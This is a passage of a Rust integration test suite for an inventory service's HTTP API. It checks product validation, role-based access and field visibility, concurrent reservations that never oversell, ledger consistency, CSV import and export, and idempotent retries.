//! The inventory service over HTTP: catalogue, ledger, reservations, CSV.

use std::collections::HashSet;

use reqwest::Method;
use serde_json::{json, Value};
use testkit::{Api, Session, Svc, TestSystem};

async fn system() -> (TestSystem, Session, Session, Session) {
    let sys = TestSystem::start(&[Svc::Auth, Svc::Inventory]).await;
    let (admin, staff, customer) = sys.cast().await;
    (sys, admin, staff, customer)
}

fn ids(page: &Value) -> Vec<String> {
    page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["sku"].as_str().unwrap().to_string())
        .collect()
}

#[tokio::test]
async fn staff_create_read_edit_and_archive_products() {
    let (sys, _, staff, _) = system().await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let created = inv
        .post(
            "/api/products",
            json!({"sku": "tea-01", "name": "Green tea", "price_cents": 450, "initial_stock": 12}),
        )
        .await
        .expect(201);
    assert_eq!(created.header("etag"), Some("\"1\""));
    let p = &created.body;
    assert_eq!(p["sku"], "TEA-01", "SKUs are upper-cased");
    assert_eq!(
        (
            p["on_hand"].as_i64(),
            p["reserved"].as_i64(),
            p["available"].as_i64()
        ),
        (Some(12), Some(0), Some(12))
    );
    assert_eq!(p["currency"], "USD");
    let id = p["id"].as_str().unwrap();

    let got = inv.get(&format!("/api/products/{id}")).await.expect(200);
    assert_eq!(got.header("etag"), Some("\"1\""));
    let edited = inv
        .patch(
            &format!("/api/products/{id}"),
            json!({"name": "Sencha", "price_cents": 500, "supplier_id": null}),
        )
        .await
        .expect(200);
    assert_eq!(
        (
            edited.body["name"].as_str(),
            edited.body["version"].as_i64()
        ),
        (Some("Sencha"), Some(2))
    );
    assert_eq!(edited.header("etag"), Some("\"2\""));

    let archived = inv.delete(&format!("/api/products/{id}")).await.expect(200);
    assert_eq!(archived.body["active"], false);
    // The initial stock is in the ledger as received.
    let ledger = inv
        .get(&format!("/api/inventory/movements?product_id={id}"))
        .await
        .expect(200);
    assert_eq!(ledger.body["items"][0]["reason"], "received");
    assert_eq!(ledger.body["items"][0]["on_hand_delta"], 12);
}

#[tokio::test]
async fn product_validation_names_each_bad_field() {
    let (sys, _, staff, _) = system().await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let reply = inv
        .post(
            "/api/products",
            json!({"sku": "bad sku!", "name": "", "price_cents": -1, "initial_stock": -5}),
        )
        .await
        .expect_problem(422);
    let fields: HashSet<&str> = reply.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        HashSet::from(["sku", "name", "price_cents", "initial_stock"])
    );
    inv.post(
        "/api/products",
        json!({"sku": "A", "name": "A", "price_cents": "12"}),
    )
    .await
    .expect_problem(422);
    inv.post(
        "/api/products",
        json!({"sku": "A", "name": "A", "price_cents": 1, "colour": "red"}),
    )
    .await
    .expect_problem(422);
    inv.post(
        "/api/products",
        json!({"sku": "A", "name": "A", "price_cents": 1, "supplier_id": uuid::Uuid::new_v4()}),
    )
    .await
    .expect_problem(422);
}

#[tokio::test]
async fn a_duplicate_sku_is_409() {
    let (sys, _, staff, _) = system().await;
    sys.product(&staff, "DUP-1", 100, 0).await;
    let reply = sys
        .api(Svc::Inventory)
        .with_token(&staff.token)
        .post(
            "/api/products",
            json!({"sku": "dup-1", "name": "Again", "price_cents": 100}),
        )
        .await
        .expect_problem(409);
    assert_eq!(reply.problem_type(), "/problems/duplicate-sku");
}

#[tokio::test]
async fn stale_if_match_is_412_and_stale_version_is_409() {
    let (sys, _, staff, _) = system().await;
    let id = sys.product_id(&staff, "V-1", 100, 0).await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let path = format!("/api/products/{id}");
    Api::send(
        inv.request(Method::PATCH, &path)
            .header("if-match", "\"1\"")
            .json(&json!({"name": "First"})),
    )
    .await
    .expect(200);
    let stale = Api::send(
        inv.request(Method::PATCH, &path)
            .header("if-match", "\"1\"")
            .json(&json!({"name": "Lost"})),
    )
    .await
    .expect_problem(412);
    assert!(stale.body["detail"].as_str().unwrap().contains("version 2"));
    inv.patch(&path, json!({"name": "Lost", "version": 1}))
        .await
        .expect_problem(409);
    Api::send(
        inv.request(Method::DELETE, &path)
            .header("if-match", "\"1\""),
    )
    .await
    .expect_problem(412);
    assert_eq!(
        inv.get(&path).await.body["name"],
        "First",
        "nothing was lost or overwritten"
    );
}

#[tokio::test]
async fn customers_see_price_and_availability_but_not_cost_supplier_or_stock_levels() {
    let (sys, _, staff, customer) = system().await;
    let as_staff = sys.api(Svc::Inventory).with_token(&staff.token);
    let supplier = as_staff
        .post(
            "/api/suppliers",
            json!({"name": "Kiln & Co", "lead_time_days": 5}),
        )
        .await
        .expect(201);
    let product = as_staff
        .post(
            "/api/products",
            json!({"sku": "SEEN", "name": "Mug", "description": "Stoneware", "price_cents": 900,
                   "cost_cents": 310, "supplier_id": supplier.body["id"], "initial_stock": 8,
                   "reorder_point": 4, "reorder_quantity": 20}),
        )
        .await
        .expect(201);
    let id = product.body["id"].as_str().unwrap().to_string();
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    reserve(
        &internal,
        &uuid::Uuid::new_v4().to_string(),
        json!([{"product_id": id, "quantity": 3}]),
    )
    .await
    .expect(201);
    let as_customer = sys.api(Svc::Inventory).with_token(&customer.token);
    let one = as_customer
        .get(&format!("/api/products/{id}"))
        .await
        .expect(200);
    let listed = as_customer.get("/api/products").await.expect(200);
    for seen in [&one.body, &listed.body["items"][0]] {
        assert_eq!(seen["name"], "Mug");
        assert_eq!(seen["description"], "Stoneware");
        assert_eq!(seen["price_cents"], 900);
        assert_eq!(seen["available"], 5);
        assert_eq!(
            (seen["on_hand"].clone(), seen["reserved"].clone()),
            (json!(5), json!(0))
        );
        assert!(seen["cost_cents"].is_null(), "{seen}");
        assert!(seen["supplier_id"].is_null(), "{seen}");
        assert_eq!(
            (seen["reorder_point"].clone(), seen["on_order"].clone()),
            (json!(0), json!(0))
        );
    }
    let staff_view = as_staff
        .get(&format!("/api/products/{id}"))
        .await
        .expect(200);
    assert_eq!(staff_view.body["cost_cents"], 310);
    assert_eq!(staff_view.body["supplier_id"], supplier.body["id"]);
    assert_eq!(
        (
            staff_view.body["on_hand"].clone(),
            staff_view.body["reserved"].clone()
        ),
        (json!(8), json!(3))
    );
}

#[tokio::test]
async fn customers_read_but_cannot_write_and_strangers_are_401() {
    let (sys, _, staff, customer) = system().await;
    let id = sys.product_id(&staff, "C-1", 100, 3).await;
    let inv = sys.api(Svc::Inventory);
    inv.get("/api/products").await.expect_problem(401);
    inv.get(&format!("/api/products/{id}"))
        .await
        .expect_problem(401);
    let as_customer = inv.with_token(&customer.token);
    as_customer
        .get(&format!("/api/products/{id}"))
        .await
        .expect(200);
    as_customer
        .post(
            "/api/products",
            json!({"sku": "X", "name": "X", "price_cents": 1}),
        )
        .await
        .expect_problem(403);
    as_customer
        .patch(&format!("/api/products/{id}"), json!({"name": "Mine"}))
        .await
        .expect_problem(403);
    as_customer
        .delete(&format!("/api/products/{id}"))
        .await
        .expect_problem(403);
    as_customer
        .post(
            "/api/inventory/adjustments",
            json!({"product_id": id, "delta": 5, "reason": "received"}),
        )
        .await
        .expect_problem(403);
    as_customer
        .get("/api/inventory/movements")
        .await
        .expect_problem(403);
    as_customer.get("/api/suppliers").await.expect_problem(403);
    // Internal endpoints need a service token, not a user's.
    as_customer
        .post("/internal/reservations", json!({"reservation_id": uuid::Uuid::new_v4(), "lines": [{"product_id": id, "quantity": 1}]}))
        .await
        .expect_problem(403);
    // Archived products disappear for customers.
    sys.api(Svc::Inventory)
        .with_token(&staff.token)
        .delete(&format!("/api/products/{id}"))
        .await
        .expect(200);
    as_customer
        .get(&format!("/api/products/{id}"))
        .await
        .expect_problem(404);
    assert!(ids(&as_customer.get("/api/products").await.expect(200).body).is_empty());
}

#[tokio::test]
async fn listing_searches_filters_and_paginates() {
    let (sys, _, staff, _) = system().await;
    for (sku, stock) in [
        ("TEA-GREEN", 50),
        ("TEA-BLACK", 2),
        ("COFFEE-1", 1),
        ("MUG-100%", 40),
    ] {
        sys.product(&staff, sku.trim_end_matches('%'), 300, stock)
            .await;
    }
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    assert_eq!(
        ids(&inv.get("/api/products?q=tea").await.expect(200).body),
        ["TEA-BLACK", "TEA-GREEN"]
    );
    assert_eq!(
        ids(&inv
            .get("/api/products?q=product%20coffee")
            .await
            .expect(200)
            .body),
        ["COFFEE-1"]
    );
    assert!(
        ids(&inv.get("/api/products?q=%25").await.expect(200).body).is_empty(),
        "% is literal"
    );
    assert_eq!(
        ids(&inv
            .get("/api/products?low_stock=true")
            .await
            .expect(200)
            .body),
        ["COFFEE-1", "TEA-BLACK"]
    );
    let first = inv.get("/api/products?limit=3").await.expect(200);
    assert_eq!(ids(&first.body), ["MUG-100", "COFFEE-1", "TEA-BLACK"]);
    let cursor = first.body["next_cursor"].as_str().unwrap();
    let second = inv
        .get(&format!("/api/products?limit=3&cursor={cursor}"))
        .await
        .expect(200);
    assert_eq!(ids(&second.body), ["TEA-GREEN"]);
    assert!(second.body["next_cursor"].is_null());
    inv.get("/api/products?limit=101").await.expect_problem(422);
    inv.get("/api/products?cursor=zzz")
        .await
        .expect_problem(422);
    inv.get("/api/products?active=maybe")
        .await
        .expect_problem(400);
    let bad_flag = inv
        .get("/api/products?low_stock=maybe")
        .await
        .expect_problem(400);
    assert!(
        bad_flag.body["detail"]
            .as_str()
            .unwrap()
            .contains("low_stock"),
        "{}",
        bad_flag.text
    );
    inv.get("/api/products/not-an-id").await.expect_problem(404);
    let low = inv.get("/api/inventory/low-stock").await.expect(200);
    assert_eq!(ids(&low.body), ["COFFEE-1", "TEA-BLACK"]);
    let summary = inv.get("/api/inventory/summary").await.expect(200).body;
    assert_eq!(summary["products"], 4);
    assert_eq!(summary["low_stock"], 2);
    assert_eq!(summary["units_on_hand"], 93);
    assert_eq!(summary["stock_value_cents"], 93 * 300);
}

#[tokio::test]
async fn adjustments_keep_on_hand_at_or_above_reserved_and_zero() {
    let (sys, _, staff, _) = system().await;
    let id = sys.product_id(&staff, "ADJ", 100, 10).await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let adjust = |delta: i64, reason: &str| {
        inv.post(
            "/api/inventory/adjustments",
            json!({"product_id": id, "delta": delta, "reason": reason, "note": "count"}),
        )
    };
    let received = adjust(5, "received").await.expect(201);
    assert_eq!(received.body["product"]["on_hand"], 15);
    assert_eq!(received.body["movement"]["on_hand_after"], 15);
    adjust(-3, "damaged").await.expect(201);
    adjust(-13, "lost").await.expect_problem(409);
    adjust(3, "damaged").await.expect_problem(422);
    adjust(0, "correction").await.expect_problem(422);
    adjust(1, "reserved").await.expect_problem(422);
    adjust(1, "stolen").await.expect_problem(422);
    inv.post(
        "/api/inventory/adjustments",
        json!({"product_id": uuid::Uuid::new_v4(), "delta": 1, "reason": "received"}),
    )
    .await
    .expect_problem(404);
    // Reserve 10 of the 12: now on hand cannot drop below 10.
    let service = sys.service_token().await;
    let internal = sys.api(Svc::Inventory).with_token(&service);
    internal
        .post("/internal/reservations", json!({"reservation_id": uuid::Uuid::new_v4(), "lines": [{"product_id": id, "quantity": 10}]}))
        .await
        .expect(201);
    adjust(-3, "correction").await.expect_problem(409);
    adjust(-2, "correction").await.expect(201);
    assert_eq!(sys.stock_of(&staff, &id).await, (10, 10));
    // Archiving is refused while stock is reserved.
    inv.delete(&format!("/api/products/{id}"))
        .await
        .expect_problem(409);
}

async fn reserve(internal: &Api, rid: &str, lines: Value) -> testkit::Reply {
    internal
        .post(
            "/internal/reservations",
            json!({"reservation_id": rid, "lines": lines}),
        )
        .await
}

#[tokio::test]
async fn two_hundred_concurrent_reservations_never_oversell_fifty() {
    let (sys, _, staff, _) = system().await;
    let id = sys.product_id(&staff, "HOT", 999, 50).await;
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    let replies = futures::future::join_all((0..200).map(|_| {
        let (internal, id) = (internal.clone(), id.clone());
        async move {
            reserve(
                &internal,
                &uuid::Uuid::new_v4().to_string(),
                json!([{"product_id": id, "quantity": 1}]),
            )
            .await
            .status
            .as_u16()
        }
    }))
    .await;
    assert_eq!(replies.iter().filter(|s| **s == 201).count(), 50);
    assert_eq!(replies.iter().filter(|s| **s == 409).count(), 150);
    assert_eq!(sys.stock_of(&staff, &id).await, (50, 50));
    assert_ledger_matches(&sys, &staff, &id).await;
}

/// The ledger's deltas add up to the product's levels, and every row's "after" is consistent.
async fn assert_ledger_matches(sys: &TestSystem, staff: &Session, id: &str) {
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let (mut on_hand, mut reserved, mut cursor) = (0, 0, String::new());
    loop {
        let page = inv
            .get(&format!(
                "/api/inventory/movements?product_id={id}&limit=100&cursor={cursor}"
            ))
            .await
            .expect(200);
        for m in page.body["items"].as_array().unwrap() {
            on_hand += m["on_hand_delta"].as_i64().unwrap();
            reserved += m["reserved_delta"].as_i64().unwrap();
            assert!(m["on_hand_after"].as_i64().unwrap() >= m["reserved_after"].as_i64().unwrap());
        }
        match page.body["next_cursor"].as_str() {
            Some(c) => cursor = c.to_string(),
            None => break,
        }
    }
    assert_eq!(
        sys.stock_of(staff, id).await,
        (on_hand, reserved),
        "ledger sums to the levels"
    );
}

#[tokio::test]
async fn repeating_a_reservation_concurrently_reserves_once() {
    let (sys, _, staff, _) = system().await;
    let id = sys.product_id(&staff, "IDEM", 250, 10).await;
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    let rid = uuid::Uuid::new_v4().to_string();
    let replies = futures::future::join_all(
        (0..10).map(|_| reserve(&internal, &rid, json!([{"product_id": id, "quantity": 3}]))),
    )
    .await;
    for r in &replies {
        assert_eq!(r.status.as_u16(), 201, "{}", r.text);
        assert_eq!(r.body["total_cents"], 750);
        assert_eq!(r.body["lines"][0]["unit_price_cents"], 250);
        assert_eq!(r.body["lines"][0]["sku"], "IDEM");
    }
    assert_eq!(sys.stock_of(&staff, &id).await, (10, 3));

    // Commit twice: stock leaves once.
    internal
        .post(&format!("/internal/reservations/{rid}/commit"), json!({}))
        .await
        .expect(200);
    internal
        .post(&format!("/internal/reservations/{rid}/commit"), json!({}))
        .await
        .expect(200);
    assert_eq!(sys.stock_of(&staff, &id).await, (7, 0));
    // A committed reservation cannot be released, and releasing it changes nothing.
    internal
        .delete(&format!("/internal/reservations/{rid}"))
        .await
        .expect_problem(409);
    assert_eq!(sys.stock_of(&staff, &id).await, (7, 0));
    assert_ledger_matches(&sys, &staff, &id).await;
}

#[tokio::test]
async fn release_is_idempotent_and_a_late_reserve_after_release_takes_nothing() {
    let (sys, _, staff, _) = system().await;
    let id = sys.product_id(&staff, "REL", 100, 5).await;
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    let rid = uuid::Uuid::new_v4().to_string();
    reserve(&internal, &rid, json!([{"product_id": id, "quantity": 2}]))
        .await
        .expect(201);
    internal
        .delete(&format!("/internal/reservations/{rid}"))
        .await
        .expect(204);
    internal
        .delete(&format!("/internal/reservations/{rid}"))
        .await
        .expect(204);
    assert_eq!(sys.stock_of(&staff, &id).await, (5, 0));

    // An order gave up (released an id inventory never saw); its reserve arrives late.
    let late = uuid::Uuid::new_v4().to_string();
    internal
        .delete(&format!("/internal/reservations/{late}"))
        .await
        .expect(204);
    let reply = reserve(&internal, &late, json!([{"product_id": id, "quantity": 2}]))
        .await
        .expect(201);
    assert_eq!(reply.body["status"], "released");
    assert_eq!(sys.stock_of(&staff, &id).await, (5, 0));
    internal
        .post(
            &format!("/internal/reservations/{}/commit", uuid::Uuid::new_v4()),
            json!({}),
        )
        .await
        .expect_problem(404);
    assert_ledger_matches(&sys, &staff, &id).await;
}

#[tokio::test]
async fn held_reservations_are_listed_for_the_reconciler_oldest_id_pages() {
    let (sys, _, staff, _) = system().await;
    let id = sys.product_id(&staff, "HOLDS", 100, 50).await;
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    let mut held = Vec::new();
    for _ in 0..5 {
        let rid = uuid::Uuid::new_v4().to_string();
        reserve(&internal, &rid, json!([{"product_id": id, "quantity": 1}]))
            .await
            .expect(201);
        held.push(rid);
    }
    let released = held.pop().unwrap();
    internal
        .delete(&format!("/internal/reservations/{released}"))
        .await
        .expect(204);
    let committed = held.pop().unwrap();
    internal
        .post(
            &format!("/internal/reservations/{committed}/commit"),
            json!({}),
        )
        .await
        .expect(200);
    held.sort();
    let first = internal
        .get("/internal/reservations?older_than_ms=0&limit=2")
        .await
        .expect(200);
    let ids = |reply: &testkit::Reply| -> Vec<String> {
        reply.body["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h["reservation_id"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(ids(&first), held[..2]);
    let rest = internal
        .get(&format!(
            "/internal/reservations?older_than_ms=0&limit=2&after={}",
            held[1]
        ))
        .await
        .expect(200);
    assert_eq!(ids(&rest), held[2..]);
    // Only holds at least that old.
    let an_hour = internal
        .get("/internal/reservations?older_than_ms=3600000")
        .await
        .expect(200);
    assert!(ids(&an_hour).is_empty());
    // Service tokens only; a bad limit is a 422.
    sys.api(Svc::Inventory)
        .with_token(&staff.token)
        .get("/internal/reservations?older_than_ms=0")
        .await
        .expect_problem(403);
    internal
        .get("/internal/reservations?older_than_ms=0&limit=0")
        .await
        .expect_problem(422);
}

#[tokio::test]
async fn concurrent_mixed_reservations_each_take_all_their_lines_or_none() {
    let (sys, _, staff, _) = system().await;
    let a = sys.product_id(&staff, "MIXA", 100, 30).await;
    let b = sys.product_id(&staff, "MIXB", 200, 20).await;
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    // Batches form from whatever arrives together: single- and two-line reservations of the
    // same hot rows, some of which cannot all fit.
    let replies = futures::future::join_all((0..120).map(|i| {
        let (internal, a, b) = (internal.clone(), a.clone(), b.clone());
        async move {
            let lines = match i % 3 {
                0 => json!([{"product_id": a, "quantity": 1}]),
                1 => json!([{"product_id": b, "quantity": 1}]),
                _ => json!([{"product_id": a, "quantity": 1}, {"product_id": b, "quantity": 2}]),
            };
            let reply = reserve(&internal, &uuid::Uuid::new_v4().to_string(), lines).await;
            (i % 3, reply.status.as_u16())
        }
    }))
    .await;
    let taken = |kind: usize| {
        replies
            .iter()
            .filter(|(k, s)| *k == kind && *s == 201)
            .count() as i64
    };
    assert!(
        replies.iter().all(|(_, s)| *s == 201 || *s == 409),
        "{replies:?}"
    );
    let (a_held, b_held) = (taken(0) + taken(2), taken(1) + 2 * taken(2));
    assert!(
        a_held <= 30 && b_held <= 20,
        "oversold: {a_held} of A, {b_held} of B"
    );
    assert_eq!(sys.stock_of(&staff, &a).await, (30, a_held));
    assert_eq!(sys.stock_of(&staff, &b).await, (20, b_held));
    // Six times B's stock was asked for: it sells out, but for one unit when only two-unit
    // lines came after the 19th.
    assert!(b_held >= 19, "B undersold: {b_held}");
    assert_ledger_matches(&sys, &staff, &a).await;
    assert_ledger_matches(&sys, &staff, &b).await;
}

#[tokio::test]
async fn a_reservation_line_with_a_quantity_out_of_range_is_a_422_on_that_field() {
    let (sys, _, staff, _) = system().await;
    let a = sys.product_id(&staff, "QA", 100, 10).await;
    let b = sys.product_id(&staff, "QB", 100, 10).await;
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    let reply = reserve(
        &internal,
        &uuid::Uuid::new_v4().to_string(),
        json!([{"product_id": a, "quantity": 0}, {"product_id": b, "quantity": 10_001}]),
    )
    .await
    .expect_problem(422);
    let errors = reply.body["errors"].as_array().unwrap();
    for field in ["lines[0].quantity", "lines[1].quantity"] {
        assert!(
            errors
                .iter()
                .any(|e| e["field"] == field && e["message"] == "must be between 1 and 10000"),
            "{field}: {errors:?}"
        );
    }
    assert_eq!(sys.stock_of(&staff, &a).await, (10, 0));
    assert_eq!(sys.stock_of(&staff, &b).await, (10, 0));
}

#[tokio::test]
async fn a_multi_line_reservation_with_one_short_line_reserves_nothing() {
    let (sys, _, staff, _) = system().await;
    let a = sys.product_id(&staff, "A", 100, 10).await;
    let b = sys.product_id(&staff, "B", 100, 1).await;
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    let unknown = uuid::Uuid::new_v4().to_string();
    let reply = reserve(
        &internal,
        &uuid::Uuid::new_v4().to_string(),
        json!([{"product_id": a, "quantity": 5}, {"product_id": b, "quantity": 4}, {"product_id": unknown, "quantity": 1}]),
    )
    .await
    .expect_problem(409);
    assert_eq!(reply.problem_type(), "/problems/insufficient-stock");
    assert_eq!(reply.body["detail"], "2 of 3 lines cannot be reserved");
    let errors = reply.body["errors"].as_array().unwrap();
    assert!(errors
        .iter()
        .any(|e| e["field"] == "lines[1].quantity" && e["message"] == "only 1 available"));
    assert!(errors
        .iter()
        .any(|e| e["field"] == "lines[2].quantity" && e["message"] == "no such product"));
    assert_eq!(sys.stock_of(&staff, &a).await, (10, 0));
    assert_eq!(sys.stock_of(&staff, &b).await, (1, 0));
    reserve(
        &internal,
        &uuid::Uuid::new_v4().to_string(),
        json!([{"product_id": a, "quantity": 1}, {"product_id": a, "quantity": 1}]),
    )
    .await
    .expect_problem(422);
    reserve(
        &internal,
        &uuid::Uuid::new_v4().to_string(),
        json!([{"product_id": a, "quantity": 0}]),
    )
    .await
    .expect_problem(422);
    reserve(&internal, &uuid::Uuid::new_v4().to_string(), json!([]))
        .await
        .expect_problem(422);
}

#[tokio::test]
async fn internal_stock_reports_levels_with_lead_times() {
    let (sys, _, staff, _) = system().await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let supplier = inv
        .post(
            "/api/suppliers",
            json!({"name": "Tea Co", "contact_email": "orders@tea.example", "lead_time_days": 12}),
        )
        .await
        .expect(201);
    let sid = supplier.body["id"].as_str().unwrap();
    inv.patch(
        &format!("/api/suppliers/{sid}"),
        json!({"phone": "+44 20 1234"}),
    )
    .await
    .expect(200);
    inv.post("/api/suppliers", json!({"contact_email": "x"}))
        .await
        .expect_problem(422);
    let p = inv
        .post("/api/products", json!({"sku": "S-1", "name": "Oolong", "price_cents": 900, "supplier_id": sid, "initial_stock": 4}))
        .await
        .expect(201);
    let pid = p.body["id"].as_str().unwrap();
    let internal = sys
        .api(Svc::Inventory)
        .with_token(&sys.service_token().await);
    let levels = internal
        .get(&format!("/internal/stock?ids={pid}"))
        .await
        .expect(200);
    assert_eq!(levels.body["items"][0]["lead_time_days"], 12);
    assert_eq!(levels.body["items"][0]["available"], 4);
    internal
        .get("/internal/stock?ids=nope")
        .await
        .expect_problem(422);
    let listed = inv.get("/api/suppliers").await.expect(200);
    assert_eq!(listed.body["items"][0]["phone"], "+44 20 1234");
}

#[tokio::test]
async fn csv_import_of_ten_thousand_rows_and_export_round_trip() {
    let (sys, _, staff, _) = system().await;
    let mut csv = String::from(
        "sku,name,category,price_cents,initial_stock,reorder_point,reorder_quantity\n",
    );
    for i in 0..10_000 {
        csv.push_str(&format!(
            "SKU-{i:05},\"Item {i}, boxed\",cat-{},{},{},5,10\n",
            i % 7,
            100 + i,
            i % 50
        ));
    }
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let reply = inv
        .post_raw("/api/products/import", "text/csv", csv)
        .await
        .expect(200);
    assert_eq!(
        (
            reply.body["created"].as_i64(),
            reply.body["updated"].as_i64()
        ),
        (Some(10_000), Some(0))
    );
    let summary = inv.get("/api/inventory/summary").await.expect(200);
    assert_eq!(summary.body["products"], 10_000);
    let found = inv.get("/api/products?q=SKU-09999").await.expect(200);
    assert_eq!(found.body["items"][0]["name"], "Item 9999, boxed");

    let export = Api::send(inv.request(Method::GET, "/api/products/export"))
        .await
        .expect(200);
    assert!(export
        .header("content-type")
        .unwrap()
        .starts_with("text/csv"));
    assert_eq!(export.text.lines().count(), 10_001);
    // Re-importing the export updates every row and creates nothing.
    let again = inv
        .post_raw("/api/products/import", "text/csv", export.text)
        .await
        .expect(200);
    assert_eq!(
        (
            again.body["created"].as_i64(),
            again.body["updated"].as_i64()
        ),
        (Some(0), Some(10_000))
    );
}

#[tokio::test]
async fn a_csv_with_bad_rows_imports_nothing_and_names_each_line() {
    let (sys, _, staff, _) = system().await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let csv = "sku,name,price_cents,initial_stock\nOK-1,Fine,100,1\nbad sku,Broken,100,1\nOK-2,Fine,abc,1\nOK-1,Again,100,1\n";
    let reply = inv
        .post_raw("/api/products/import", "text/csv", csv)
        .await
        .expect_problem(422);
    let fields: Vec<&str> = reply.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        ["line[3].sku", "line[4].price_cents", "line[5].sku"]
    );
    assert!(reply.body["detail"]
        .as_str()
        .unwrap()
        .contains("nothing was imported"));
    assert_eq!(inv.get("/api/inventory/summary").await.body["products"], 0);
    inv.post_raw(
        "/api/products/import",
        "text/csv",
        "name,price_cents\nA,1\n",
    )
    .await
    .expect_problem(422);
    inv.post_raw("/api/products/import", "application/json", "{}")
        .await
        .expect_problem(400);
}

async fn post_keyed(api: &Api, path: &str, key: &str, body: &Value) -> testkit::Reply {
    Api::send(
        api.request(Method::POST, path)
            .header("idempotency-key", key)
            .json(body),
    )
    .await
}

#[tokio::test]
async fn a_retried_adjustment_is_applied_once_and_replays_the_first_answer() {
    let (sys, admin, staff, _) = system().await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let id = sys.product_id(&staff, "KEYED", 100, 10).await;
    let body = json!({"product_id": id, "delta": 5, "reason": "received", "note": "pallet 7"});
    let first = post_keyed(&inv, "/api/inventory/adjustments", "delivery-7", &body)
        .await
        .expect(201);
    assert_eq!(first.header("idempotent-replayed"), None);
    // The same body with its keys in another order is the same request.
    let reordered = json!({"note": "pallet 7", "reason": "received", "delta": 5, "product_id": id});
    let again = post_keyed(&inv, "/api/inventory/adjustments", "delivery-7", &reordered)
        .await
        .expect(201);
    assert_eq!(again.header("idempotent-replayed"), Some("true"));
    assert_eq!(again.body, first.body, "the first answer, byte for byte");
    // Twenty more at once change nothing either.
    let retries =
        (0..20).map(|_| post_keyed(&inv, "/api/inventory/adjustments", "delivery-7", &body));
    for reply in futures::future::join_all(retries).await {
        assert_eq!(
            reply.expect(201).body["movement"]["id"],
            first.body["movement"]["id"]
        );
    }
    assert_eq!(sys.stock_of(&staff, &id).await.0, 15);
    let ledger = inv
        .get(&format!("/api/inventory/movements?product_id={id}"))
        .await
        .expect(200);
    assert_eq!(
        ledger.body["items"].as_array().unwrap().len(),
        2,
        "initial stock + one adjustment"
    );
    // The same key with another body is refused and changes nothing.
    let other = json!({"product_id": id, "delta": 6, "reason": "received", "note": "pallet 7"});
    let refused = post_keyed(&inv, "/api/inventory/adjustments", "delivery-7", &other)
        .await
        .expect_problem(422);
    assert_eq!(refused.body["errors"][0]["field"], "Idempotency-Key");
    assert_eq!(sys.stock_of(&staff, &id).await.0, 15);
    // Keys belong to their user: another staff member's same key is a new request.
    let admin = sys.api(Svc::Inventory).with_token(&admin.token);
    post_keyed(&admin, "/api/inventory/adjustments", "delivery-7", &body)
        .await
        .expect(201);
    assert_eq!(sys.stock_of(&staff, &id).await.0, 20);
}

#[tokio::test]
async fn a_kept_conflict_replays_and_bad_keys_are_refused() {
    let (sys, _, staff, _) = system().await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let id = sys.product_id(&staff, "SHORT", 100, 3).await;
    let take = json!({"product_id": id, "delta": -5, "reason": "damaged"});
    let first = post_keyed(&inv, "/api/inventory/adjustments", "write-off-1", &take)
        .await
        .expect_problem(409);
    inv.post(
        "/api/inventory/adjustments",
        json!({"product_id": id, "delta": 10, "reason": "received"}),
    )
    .await
    .expect(201);
    // The first answer was a 409; a retry with the same key gets that answer, not a new try.
    let replayed = post_keyed(&inv, "/api/inventory/adjustments", "write-off-1", &take)
        .await
        .expect_problem(409);
    assert_eq!(replayed.header("idempotent-replayed"), Some("true"));
    assert_eq!(replayed.body["detail"], first.body["detail"]);
    assert_ne!(replayed.body["request_id"], first.body["request_id"]);
    assert_eq!(sys.stock_of(&staff, &id).await.0, 13);
    // A request refused before it ran keeps nothing: fixed, the same key goes through.
    let invalid = json!({"product_id": id, "delta": -5, "reason": "stolen"});
    post_keyed(&inv, "/api/inventory/adjustments", "write-off-2", &invalid)
        .await
        .expect_problem(422);
    post_keyed(&inv, "/api/inventory/adjustments", "write-off-2", &take)
        .await
        .expect(201);
    assert_eq!(sys.stock_of(&staff, &id).await.0, 8);
    for key in ["k".repeat(256), String::new(), "tab\there".to_string()] {
        let reply = Api::send(
            inv.request(Method::POST, "/api/inventory/adjustments")
                .header("idempotency-key", key.as_bytes())
                .json(&take),
        )
        .await;
        assert_eq!(reply.status.as_u16(), 400, "{key:?}: {}", reply.text);
    }
    assert_eq!(sys.stock_of(&staff, &id).await.0, 8);
}

#[tokio::test]
async fn retried_supplier_product_and_import_creates_make_one_of_each() {
    let (sys, _, staff, _) = system().await;
    let inv = sys.api(Svc::Inventory).with_token(&staff.token);
    let supplier = json!({"name": "Tea Co", "lead_time_days": 5});
    let first = post_keyed(&inv, "/api/suppliers", "sup-1", &supplier)
        .await
        .expect(201);
    let again = post_keyed(&inv, "/api/suppliers", "sup-1", &supplier)
        .await
        .expect(201);
    assert_eq!(again.body["id"], first.body["id"]);
    let listed = inv.get("/api/suppliers").await.expect(200);
    assert_eq!(listed.body["items"].as_array().unwrap().len(), 1);
    post_keyed(
        &inv,
        "/api/suppliers",
        "sup-1",
        &json!({"name": "Other Co"}),
    )
    .await
